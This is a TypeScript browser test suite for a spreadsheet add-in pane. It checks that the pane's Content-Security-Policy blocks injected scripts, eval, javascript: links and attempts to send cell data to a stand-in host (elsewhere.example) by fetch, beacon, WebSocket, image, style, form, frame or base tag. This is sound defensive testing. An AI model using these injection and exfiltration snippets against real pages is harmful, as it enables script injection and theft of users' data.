import { panePolicy } from "../../webpack.policy.js";
import { closeBrowser, opensWorkbench, type Workbench } from "./workbench";

afterAll(closeBrowser);

interface Told {
  violations: string[];
}

let workbench: Workbench;

beforeAll(async () => {
  workbench = await opensWorkbench();
});

describe("the policy that the pane's page states", () => {
  it("stands before its scripts, and is the one that the server sends", async () => {
    const answer = await fetch(workbench.pane.url());
    const page = await answer.text();
    expect(answer.headers.get("Content-Security-Policy")).toBe(`${panePolicy()}; frame-ancestors 'self'`);
    expect(page).toContain(`content="${panePolicy()}"`);
    expect(page.indexOf("Content-Security-Policy")).toBeLessThan(page.indexOf("<script"));
  });

  it("is kept by what an officer does, and nothing is asked for elsewhere", async () => {
    const { page, pane, trouble } = workbench;
    await pane.getByText(/things to fix/).first().waitFor(); // prettier-ignore
    await pane.getByRole("button", { name: "Check", exact: true }).click();
    for (const tab of await pane.getByRole("tab").all()) await tab.click();
    await page.emulateMedia({ colorScheme: "dark" });
    await page.getByRole("toolbar").getByRole("button", { name: "Quarter summary" }).click();
    await page.getByRole("tab", { name: "Register" }).waitFor();
    // The browser reports what a policy refuses as an error on the console.
    expect(trouble).toEqual([]);
  });
});

describe("what would leave the workbook, or get in", () => {
  it.each<[string, string | RegExp, () => unknown]>([
    ["a script in the page", "script-src-elem inline", () => {
      const script = document.createElement("script");
      script.textContent = "globalThis.gotIn = true";
      document.body.append(script);
    }],
    ["a handler in markup", "script-src-attr inline", () => {
      document.body.insertAdjacentHTML("beforeend", "<img src='/none.png' onerror='globalThis.gotIn = true'>");
    }],
    ["a link that is code", "script-src-elem inline", () => {
      const link = document.createElement("a");
      link.setAttribute("href", "javascript:globalThis.gotIn = true");
      document.body.append(link);
      link.click();
    }],
    ["a text run as code", "script-src eval", () => (0, eval)("globalThis.gotIn = true") as unknown],
    ["a script from elsewhere", "script-src-elem https://elsewhere.example/", () => {
      const script = document.createElement("script");
      script.src = "https://elsewhere.example/";
      document.body.append(script);
    }],
    ["a request", "connect-src https://elsewhere.example/", () => fetch("https://elsewhere.example/", { method: "POST", body: "cells" })],
    ["a beacon", "connect-src https://elsewhere.example/", () => navigator.sendBeacon("https://elsewhere.example/", "cells")],
    ["a socket", "connect-src wss://elsewhere.example/", () => new WebSocket("wss://elsewhere.example").url],
    ["a picture with cells in its address", "img-src https://elsewhere.example/", () => {
      new Image().src = "https://elsewhere.example/";
    }],
    ["a style with cells in its address", "img-src https://elsewhere.example/", () => {
      document.body.style.backgroundImage = "url(https://elsewhere.example/)";
      return document.body.offsetWidth;
    }],
    ["a form", /form-action .*\/manifest.xml/, () => {
      const form = document.createElement("form");
      form.action = "/manifest.xml";
      document.body.append(form);
      form.submit();
    }],
    ["a frame", "frame-src https://elsewhere.example", () => {
      const frame = document.createElement("iframe");
      frame.src = "https://elsewhere.example/";
      document.body.append(frame);
    }],
    ["a new base for addresses", "base-uri https://elsewhere.example/", () => {
      const base = document.createElement("base");
      base.href = "https://elsewhere.example/";
      document.head.append(base);
    }],
  ])("%s is refused", async (_, refused, tries) => {
    const { pane, trouble } = workbench;
    // What a test evaluates is above the page's policy; what the page's own timer runs is not.
    await pane.evaluate(() => {
      const violations: string[] = [];
      Object.assign(globalThis, { violations });
      addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
        violations.push(`${effectiveDirective} ${blockedURI}`);
      });
    });
    const before = trouble.length;
    await pane.evaluate(`setTimeout(${tries.toString()})`);
    await pane.waitForFunction(() => (globalThis as unknown as Told).violations.length > 0, undefined, { timeout: 10_000 }); // prettier-ignore
    expect(await pane.evaluate(() => (globalThis as unknown as Told).violations)).toContainEqual(expect.stringMatching(refused));
    expect(await pane.evaluate(() => "gotIn" in globalThis)).toBe(false);
    expect(trouble.length).toBeGreaterThan(before);
  }); // prettier-ignore
});
